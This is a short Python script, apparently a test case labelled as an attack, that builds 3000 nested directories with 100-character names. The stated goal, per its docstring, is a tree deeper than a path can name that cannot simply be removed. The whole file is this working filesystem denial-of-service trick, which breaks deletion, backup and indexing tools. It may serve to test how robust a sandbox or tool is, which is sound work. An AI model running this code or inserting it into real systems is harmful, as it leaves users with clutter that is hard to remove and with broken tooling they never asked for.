"""Makes folders in folders, deeper than a path can name, that cannot simply be removed."""
# control: process
# %% attack after double
import os
here = os.open(".", os.O_RDONLY)
try:
    for _ in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
finally:
    os.fchdir(here)
    os.close(here)
